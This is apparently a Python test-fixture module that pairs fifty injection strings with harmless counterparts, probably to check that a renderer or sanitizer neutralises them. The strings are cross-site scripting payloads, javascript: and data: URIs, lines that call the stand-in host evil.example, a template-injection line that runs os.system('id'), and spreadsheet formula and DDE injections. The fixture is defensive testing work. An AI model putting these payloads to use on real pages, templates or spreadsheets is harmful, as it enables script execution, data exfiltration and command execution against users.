"""Fifty texts that try to become markup, script, an address or a formula, and as many that try nothing."""

HOSTILE = (
    "<script>window.__tripped=1</script>",
    "<script src=//evil.example/x.js></script>",
    "</title><script>window.__tripped=2</script>",
    "</textarea><script>window.__tripped=3</script>",
    "</script><script>window.__tripped=4</script>",
    "--><script>window.__tripped=5</script><!--",
    "<img src=x onerror=window.__tripped=6>",
    '"><img src=x onerror=window.__tripped=7>',
    "'><img src=x onerror=window.__tripped=8>",
    "`><img src=x onerror=window.__tripped=9>",
    '" onmouseover="window.__tripped=10" autofocus onfocus="window.__tripped=10',
    "' onfocus='window.__tripped=11' autofocus='",
    " onpointerenter=window.__tripped=12 tabindex=1 ",
    "<svg onload=window.__tripped=13>",
    "<svg><script>window.__tripped=14</script></svg>",
    "<svg><animate onbegin=window.__tripped=15 attributeName=x dur=1s></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='window.__tripped=16'/>#x\"></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__tripped=17</script>'></iframe></foreignObject></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.__tripped=18></style></mglyph></math>",
    "<iframe src=javascript:window.__tripped=19></iframe>",
    '<iframe srcdoc="<script>parent.__tripped=20</script>"></iframe>',
    "<object data=javascript:window.__tripped=21></object>",
    "<embed src=javascript:window.__tripped=22>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/pixel)}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/b)'>over</div>",
    "<form action=//evil.example/><input name=token><button formaction=javascript:window.__tripped=29>Sign in</button>",
    "<a href=javascript:window.__tripped=30>here</a>",
    "<a href=' &#x6A;avascript:window.__tripped=31'>here</a>",
    "javascript:window.__tripped=32//",
    "JaVa\tScRiPt:window.__tripped=33",
    "data:text/html,<script>window.__tripped=34</script>",
    "vbscript:window.__tripped=35",
    "<details open ontoggle=window.__tripped=36>",
    "<video><source onerror=window.__tripped=37></video>",
    '<noscript><p title="</noscript><img src=x onerror=window.__tripped=38>">',
    "<template><script>window.__tripped=39</script></template>",
    "<!--<img src='--><img src=x onerror=window.__tripped=40>'>",
    "<![CDATA[<img src=x onerror=window.__tripped=41>]]>",
    "<scr<script>ipt>window.__tripped=42</scr</script>ipt>",
    "＜script＞window.__tripped=43＜/script＞",
    "&lt;img src=x onerror=window.__tripped=44&gt;",
    "\\u003cimg src=x onerror=window.__tripped=45\\u003e",
    "{{ 7 * 7 }}{{ cycler.__init__.__globals__.os.system('id') }}",
    "{% for name in range(9) %}x{% endfor %}{# gone #}${window.__tripped=47}",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0 ; -2+3 ; @SUM(1)",
    "\u202egnp.exe\u202c \u2066<b>\u2069 \u200bzero\u200bwidth \u061c",
)

SPELLED_OUT = (
    "\u202eright to left\u202c, isolated \u2066so\u2069, zero\u200bwidth, \u061c, and "
    "a\u0301\u0301\u0301\u0301\u0301\u0301 tower"
)
"""What pages spell out also stands in the harmless case, so that both have the same kinds of elements."""

HARMLESS = (*(f"harmless words number {number}" for number in range(len(HOSTILE) - 1)), SPELLED_OUT)

TRIPWIRE = "__tripped"
EVIL_HOST = "evil.example"
